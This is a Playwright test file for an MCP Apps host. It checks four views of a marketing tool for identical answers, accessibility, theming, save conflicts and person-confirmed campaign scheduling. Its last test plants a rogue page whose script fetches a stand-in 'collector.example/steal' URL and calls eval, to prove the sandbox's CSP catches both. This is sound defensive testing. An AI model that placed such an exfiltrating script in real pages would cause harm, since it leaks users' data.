/**
 * MCP Apps (docs/mcp-apps.md): the four views in a test host built on the ext-apps SDK's AppBridge
 * (helpers/apps-host.ts), against its own `serve --demo --mode FULL` over the app's socket. Each test
 * makes the model's call with a real MCP client, reads the linked `ui://` view, renders it in a
 * sandboxed iframe and drives it like a person; what the bridge received is read back from its audit
 * log. Every view is judged in both themes and both languages (screenshots in
 * test-results/screenshots/apps-*), with axe-core inside the view, and any request or CSP violation a
 * view causes fails its test.
 */
import { connect as netConnect } from 'node:net';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { Client } from '@modelcontextprotocol/client';
import { Client as LegacyClient } from '@modelcontextprotocol/sdk/client/index.js';
import type { AuditEntry } from '../../src-shared/session';
import { LineTransport } from '../../src-main/mcp/line-transport';
import { appViews, viewLinkBudgetBytes } from '../../src-shared/app-views';
import { tokenPattern } from '../integration/mcp/cli-helpers';
import { looks, openAppsHost, type AppsHost, type Look } from './helpers/apps-host';
import { repoRoot, startServe } from './helpers/processes';
import { callServe } from './helpers/serve-api';

let serve: Awaited<ReturnType<typeof startServe>>;

test.beforeAll(async () => {
  serve = await startServe(['--mode', 'FULL', '--toolsets', 'all']); // every view's tool listed (the report is an analytics tool, off by default)
});
test.afterAll(async () => {
  await serve?.stop();
});

/** The audit entries of the bridge under test, newest first. */
async function audit(query: Record<string, unknown> = {}): Promise<AuditEntry[]> {
  return (await callServe<{ entries: AuditEntry[] }>('mcp.audit', { limit: 50, ...query }, serve)).entries;
}

/** An MCP client of `era` on the socket that declares nothing (a host without the extension). */
async function plainClient(era: 'modern' | 'legacy'): Promise<{ listTools(): Promise<{ tools: Array<Record<string, unknown>> }>; call(name: string, args: Record<string, unknown>): Promise<unknown>; listResources(): Promise<{ resources: unknown[] }>; close(): Promise<void> }> {
  const socket = netConnect(serve.socketPath);
  await new Promise<void>((resolve, reject) => (socket.once('connect', resolve), socket.once('error', reject)));
  const transport = new LineTransport(socket, socket, { destroy: () => socket.destroy() });
  if (era === 'legacy') {
    const client = new LegacyClient({ name: 'text-only-host', version: '1.0.0' });
    await client.connect(transport as never);
    return { listTools: () => client.listTools() as never, call: (name, args) => client.callTool({ name, arguments: args }), listResources: () => client.listResources(), close: () => client.close() };
  }
  const client = new Client({ name: 'text-only-host', version: '1.0.0' }, { versionNegotiation: { mode: { pin: '2026-07-28' } } });
  await client.connect(transport);
  return { listTools: () => client.listTools() as never, call: (name, args) => client.callTool({ name, arguments: args }), listResources: () => client.listResources(), close: () => client.close() };
}

/** Fails when a view tried anything outside its CSP or showed a page axe finds fault with. */
async function judge(host: AppsHost, what = ''): Promise<void> {
  expect(host.cspViolations, `CSP violations ${what}`).toEqual([]);
  expect(host.networkAttempts, `requests from a view ${what}`).toEqual([]);
  expect(await host.axeViolations(), `axe ${what}`).toEqual([]);
}

/** Screenshots the view (test-results/screenshots/apps-<name>-<theme>-<language>.png). */
async function snapView(page: Page, name: string, look: Look): Promise<void> {
  await page.locator('#view').screenshot({ path: join(repoRoot, 'test-results', 'screenshots', `apps-${name}-${look.theme}-${look.locale.slice(0, 2)}.png`) });
}

test('a host without the extension gets no view, no link and the same answers; one with it gets a link of at most 80 bytes per tool', async ({ page }) => {
  const host = await openAppsHost(page, serve.socketPath);
  const legacy = await plainClient('legacy');
  const modern = await plainClient('modern');
  try {
    const linked = new Set(appViews.flatMap((view) => view.tools));
    for (const plain of [legacy, modern]) {
      const { tools } = await plain.listTools();
      expect(tools.filter((tool) => tool._meta !== undefined).map((tool) => tool.name)).toEqual([]);
      expect((await plain.listResources()).resources).toEqual([]);
      for (const tool of tools) {
        const seen = host.tools.get(tool.name as string);
        if (!linked.has(tool.name as string)) {
          expect(seen, tool.name as string).toEqual(tool);
          continue;
        }
        expect((seen?._meta as { ui?: { resourceUri?: string } }).ui?.resourceUri, tool.name as string).toMatch(/^ui:\/\/nevent\//);
        expect(Buffer.byteLength(JSON.stringify(seen)) - Buffer.byteLength(JSON.stringify(tool)), tool.name as string).toBeLessThanOrEqual(viewLinkBudgetBytes);
      }
      // The same text answers, with or without the extension (the view's host reads `_meta`, the model the text).
      for (const [name, args] of [
        ['nevent_list_tenants', { search: 'olé' }],
        ['nevent_get_segment', { segment_id: 'c1d5108e40f14fe9cd10c6dd', tenant_id: 'tn-acme' }],
        ['nevent_get_campaign_metrics', { campaign_id: '4fbb0b032850c71ffa357cec', tenant_id: 'tn-acme' }],
        ['nevent_campaign_report', { year: 2025, month: 12, tenant_id: 'tn-acme' }],
      ] as const) {
        const theirs = (await plain.call(name, args)) as { content: unknown; _meta?: Record<string, unknown> };
        const mine = await host.client.callTool({ name, arguments: args });
        expect(mine.content, name).toEqual(theirs.content);
        expect(theirs._meta?.['es.nevent/operation-mode'], name).toBeUndefined();
        expect(mine._meta?.['es.nevent/operation-mode'], name).toBe('FULL');
      }
    }
  } finally {
    await Promise.all([host.close(), legacy.close(), modern.close()]);
  }
});

test('tenants: search folds accents, choosing one switches this conversation and the view shows where it is', async ({ page }) => {
  const host = await openAppsHost(page, serve.socketPath, 'apps-tenants-host');
  try {
    await host.show('nevent_list_tenants', {});
    const view = host.view;
    await expect(view.getByTestId('active-tenant')).toHaveText('This conversation works in Acme Group (tn-acme).');
    const tree = view.getByRole('tree', { name: 'Tenants' });
    await expect(tree.getByRole('treeitem', { name: /Auditorio de Logroño/ })).toBeVisible();
    await judge(host);

    // Keyboard only: the search field keeps the focus; "logrono" finds Logroño.
    const search = view.getByRole('combobox', { name: 'Search tenants by name or id' });
    await search.focus();
    await page.keyboard.type('logrono');
    const matches = view.getByRole('listbox', { name: 'Matching tenants' });
    await expect(matches.getByRole('option')).toHaveCount(1);
    await expect(matches.getByRole('option', { selected: true })).toContainText('Auditorio de Logroño');
    await expect(search).toHaveAttribute('aria-activedescendant', /tenant-\d+/);
    // A suspended membership says why it cannot be used, and nothing is called.
    await search.fill('porto');
    await page.keyboard.press('Enter');
    await expect(view.getByRole('alert')).toContainText('Acme Porto cannot be opened');
    expect(host.calls.map((c) => c.name)).toEqual([]);

    await search.fill('logrono');
    await page.keyboard.press('Enter');
    await expect(view.getByTestId('active-tenant')).toHaveText('Done: this conversation now works in Auditorio de Logroño (tn-ole-logrono), as Nevent confirmed.');
    expect(host.calls).toEqual([{ name: 'nevent_switch_tenant', arguments: { tenantId: 'tn-ole-logrono' } }]);
    // The bridge moved this connection, and says so in its audit log; the model heard of it too.
    const [entry] = await audit({ kind: 'switch' });
    expect(entry).toMatchObject({ clientName: 'apps-tenants-host', targetTenantId: 'tn-ole-logrono', tenantId: 'tn-ole-logrono', result: 'ok' });
    expect(JSON.stringify(host.modelContext)).toContain('tenant_id: \\"tn-ole-logrono\\"');
    await search.fill('');
    await expect(tree.getByRole('treeitem', { name: /Auditorio de Logroño/ })).toContainText('Active');
    await judge(host);
  } finally {
    await host.client.callTool({ name: 'nevent_reset_tenant', arguments: {} });
    await host.close();
  }
});

test('segment: the definition in words, the count and sample; a value changed and saved, a conflict re-applied', async ({ page }) => {
  const host = await openAppsHost(page, serve.socketPath, 'apps-segment-host');
  const other = await plainClient('legacy');
  const vip = { segment_id: 'c1d5108e40f14fe9cd10c6dd', tenant_id: 'tn-acme' };
  try {
    await host.show('nevent_get_segment', vip);
    const view = host.view;
    await expect(view.getByRole('heading', { name: 'VIP fans' })).toBeVisible();
    const definition = view.getByRole('list', { name: 'Definition' });
    await expect(definition).toContainText('Total spent');
    await expect(definition).toContainText('500');
    await expect(view.getByTestId('estimated-count')).toHaveText(/^About [\d,]+ fans\.$/);
    await expect(view.getByRole('table', { name: /of them$/ })).toBeVisible();
    await judge(host);

    // Someone else changes the segment after the view read it…
    await view.getByRole('button', { name: 'Adjust conditions' }).click();
    const value = view.getByRole('textbox', { name: 'Value 1.1' });
    await value.fill('750');
    await other.call('nevent_get_segment', vip);
    await other.call('nevent_update_segment', { ...vip, description: 'Spent over 500 EUR and came to at least 5 events (checked)' });
    // …so the save is refused, nothing is overwritten, and the view says what changed on each side.
    await view.getByRole('button', { name: 'Save' }).click();
    const conflict = view.getByRole('alert').filter({ hasText: 'This segment was changed elsewhere' });
    await expect(conflict).toBeVisible();
    await expect(conflict.getByRole('table', { name: 'What changed' })).toContainText('(checked)');
    expect((await audit({ name: 'nevent_update_segment' }))[0]).toMatchObject({ clientName: 'apps-segment-host', result: 'conflict', tenantId: 'tn-acme' });
    await judge(host);

    // Re-applied on the latest version and saved: the bridge wrote 750, and kept the other change.
    await conflict.getByRole('button', { name: 'Re-apply my changes on the latest version' }).click();
    await expect(value).toHaveValue('750');
    await view.getByRole('button', { name: 'Save' }).click();
    await expect(view.getByRole('status').filter({ hasText: 'Saved: VIP fans has the new conditions.' })).toBeVisible();
    await expect(definition).toContainText('750');
    const [saved] = await audit({ name: 'nevent_update_segment' });
    expect(saved).toMatchObject({ clientName: 'apps-segment-host', result: 'ok', tenantId: 'tn-acme' });
    const after = (await host.client.callTool({ name: 'nevent_get_segment', arguments: vip })).structuredContent as { description: string; definition: { stanzas: Array<{ criteria: Array<{ value: unknown }> }> } };
    expect(after.definition.stanzas[0]?.criteria[0]?.value).toBe(750);
    expect(after.description).toContain('(checked)');
    expect(host.calls.map((c) => c.name)).toEqual(['nevent_segmentation_criteria', 'nevent_segment_preview', 'nevent_update_segment', 'nevent_get_segment', 'nevent_update_segment', 'nevent_segment_preview']);
    // Every call named the segment's tenant.
    for (const call of host.calls) expect(call.arguments.tenant_id, call.name).toBe('tn-acme');
    await judge(host);
  } finally {
    // Back as the demo had it, for the next run of the suite on the same serve.
    await host.client.callTool({ name: 'nevent_get_segment', arguments: vip });
    await host.client.callTool({
      name: 'nevent_update_segment',
      arguments: { ...vip, description: 'Spent over 500 EUR and came to at least 5 events', definition: { stanzas: [{ criteria: [{ criterion_id: 'total_spent', operator: 'gte', value: 500 }] }, { criteria: [{ criterion_id: 'events_attended', operator: 'gte', value: 5 }] }] } },
    });
    await Promise.all([host.close(), other.close()]);
  }
});

test('campaign: the confirmation shows audience, cost, channel and time, and only the person’s click schedules it', async ({ page }) => {
  const host = await openAppsHost(page, serve.socketPath, 'apps-campaign-host');
  try {
    const created = await host.show('nevent_create_campaign', { name: `Apps spec ${Date.now()}`, channel: 'EMAIL', email_subject: 'Hello', email_body: '<p>Hi</p>', segment_ids: ['c1d5108e40f14fe9cd10c6dd'], tenant_id: 'tn-acme' });
    const campaignId = (created.result.structuredContent as { campaign: { id: string } }).campaign.id;
    await expect(host.view.getByTestId('campaign-audience')).toContainText('recipients');
    await judge(host);

    // The model asks to schedule; the bridge wants the person's confirmation, and the view asks for it.
    const proposed = '2030-01-15T10:00:00+01:00';
    const shown = await host.show('nevent_schedule_campaign', { campaign_id: campaignId, scheduled_time: proposed, tenant_id: 'tn-acme' });
    expect(shown.result.isError).toBe(true);
    const view = host.view;
    await expect(view.getByText('Email', { exact: true })).toBeVisible();
    await expect(view.getByTestId('campaign-audience')).toHaveText(/^[\d,]+ recipients/);
    await expect(view.getByTestId('campaign-cost')).toHaveText(/^[\d,]+ credits/);
    const when = view.getByLabel('When');
    await expect(when).toHaveValue(await page.evaluate((iso) => {
      const at = new Date(iso);
      const pad = (n: number): string => String(n).padStart(2, '0');
      return `${at.getFullYear()}-${pad(at.getMonth() + 1)}-${pad(at.getDate())}T${pad(at.getHours())}:${pad(at.getMinutes())}`;
    }, proposed));
    await judge(host);
    // Nothing was scheduled by showing it.
    expect(host.calls.some((c) => c.name === 'nevent_schedule_campaign')).toBe(false);
    expect((await audit({ name: 'nevent_schedule_campaign' }))[0]).toMatchObject({ result: 'confirmation_required' });

    // The person's click, by keyboard.
    const button = view.getByRole('button', { name: /^Schedule for / });
    await button.focus();
    await page.keyboard.press('Enter');
    await expect(view.getByTestId('scheduled')).toBeVisible();
    await expect(view.getByTestId('campaign-status')).toHaveText('Scheduled');
    const scheduled = host.calls.filter((c) => c.name === 'nevent_schedule_campaign');
    expect(scheduled).toHaveLength(1);
    expect(scheduled[0]?.arguments).toMatchObject({ campaign_id: campaignId, confirmed: true, tenant_id: 'tn-acme' });
    expect(Date.parse(String(scheduled[0]?.arguments.scheduled_time))).toBe(Date.parse(proposed));
    const [entry] = await audit({ name: 'nevent_schedule_campaign' });
    expect(entry).toMatchObject({ clientName: 'apps-campaign-host', result: 'ok', tenantId: 'tn-acme' });
    expect(entry?.argKeys).toContain('confirmed');
    const read = (await host.client.callTool({ name: 'nevent_get_campaign', arguments: { campaign_id: campaignId, tenant_id: 'tn-acme' } })).structuredContent as { campaign: { status: string } };
    expect(read.campaign.status).toBe('SCHEDULED');
    await judge(host);
  } finally {
    await host.close();
  }
});

test('report: a month and a campaign as a chart and a table', async ({ page }) => {
  const host = await openAppsHost(page, serve.socketPath, 'apps-report-host');
  try {
    await host.show('nevent_campaign_report', { year: 2025, month: 12, tenant_id: 'tn-acme' });
    const view = host.view;
    await expect(view.getByRole('heading', { name: 'Campaigns of December 2025' })).toBeVisible();
    await expect(view.getByRole('figure')).toContainText('Weekend reminder — Acme Group');
    await expect(view.getByRole('table').first()).toContainText('1,424');
    await judge(host);

    await host.show('nevent_get_campaign_metrics', { campaign_id: '4fbb0b032850c71ffa357cec', tenant_id: 'tn-acme' });
    await expect(view.getByRole('heading', { name: 'Results of Weekend reminder — Acme Group' })).toBeVisible();
    await expect(view.getByRole('figure', { name: 'From recipients to purchases' })).toBeVisible();
    const figures = view.getByRole('table', { name: 'Figures' });
    await expect(figures.getByRole('row', { name: /Open rate/ })).toContainText('36.12%');
    await expect(figures.getByRole('row', { name: /Revenue/ })).toContainText('828.49');
    expect(host.calls).toEqual([]);
    await judge(host);
  } finally {
    await host.close();
  }
});

test('every view in both themes and both languages: screenshots and axe inside the view; no token ever reaches one', async ({ page }) => {
  test.slow();
  const host = await openAppsHost(page, serve.socketPath, 'apps-looks-host');
  try {
    const shown = [
      { name: 'tenants', shown: await host.show('nevent_list_tenants', {}), heading: { 'en-US': 'Tenants', 'es-ES': 'Organizaciones' } },
      { name: 'segment', shown: await host.show('nevent_get_segment', { segment_id: '9efdc842743d8629715a5e79', tenant_id: 'tn-acme' }), heading: { 'en-US': 'Fans who match', 'es-ES': 'Fans que cumplen' } },
      { name: 'campaign', shown: await host.show('nevent_schedule_campaign', { campaign_id: 'e8581963ec9a2449e6bdd5ac', scheduled_time: '2030-03-02T18:30:00+01:00', tenant_id: 'tn-acme' }), heading: { 'en-US': 'Fan survey — Acme Group', 'es-ES': 'Fan survey — Acme Group' } },
      { name: 'report', shown: await host.show('nevent_get_campaign_metrics', { campaign_id: '4fbb0b032850c71ffa357cec', tenant_id: 'tn-acme' }), heading: { 'en-US': 'Results of Weekend reminder — Acme Group', 'es-ES': 'Resultados de Weekend reminder — Acme Group' } },
    ];
    for (const { name, shown: answer, heading } of shown) {
      expect(answer.html).not.toMatch(tokenPattern);
      for (const look of looks) {
        await host.reshow(answer, look);
        await expect(host.view.getByRole('heading', { name: heading[look.locale] })).toBeVisible();
        await expect(host.view.locator('html')).toHaveAttribute('data-theme', look.theme);
        await expect(host.view.locator('html')).toHaveAttribute('lang', look.locale);
        // What the view loads for itself is in before the picture and the check.
        await expect(host.view.getByRole('status').filter({ hasText: /Waiting|Esperando|Counting|Contando|Quoting|Calculando/ })).toHaveCount(0);
        await snapView(page, name, look);
        await judge(host, `${name} ${look.theme} ${look.locale}`);
      }
    }
    // Never the model's turn: nothing was scheduled by showing the confirmation.
    expect(host.calls.some((c) => c.name === 'nevent_schedule_campaign')).toBe(false);
    expect(JSON.stringify(host.calls)).not.toMatch(tokenPattern);
  } finally {
    await host.close();
  }
});

test('the check itself: a view that tries a request or an eval is caught', async ({ page }) => {
  const host = await openAppsHost(page, serve.socketPath, 'apps-control-host');
  try {
    const rogue = `<!doctype html><html lang="en"><head><title>Rogue</title></head><body><h1>Rogue</h1><script>
      fetch('https://collector.example/steal').catch(() => {});
      try { eval('1 + 1'); } catch (e) {}
    </script></body></html>`;
    await host.showHtml(rogue, { connectDomains: [], resourceDomains: [] }, { content: [{ type: 'text', text: '{}' }] });
    await expect(host.view.getByRole('heading', { name: 'Rogue' })).toBeVisible();
    await expect.poll(() => host.cspViolations.join('\n')).toMatch(/connect-src/);
    await expect.poll(() => host.cspViolations.join('\n')).toMatch(/script-src|unsafe-eval/);
  } finally {
    await host.close();
  }
});
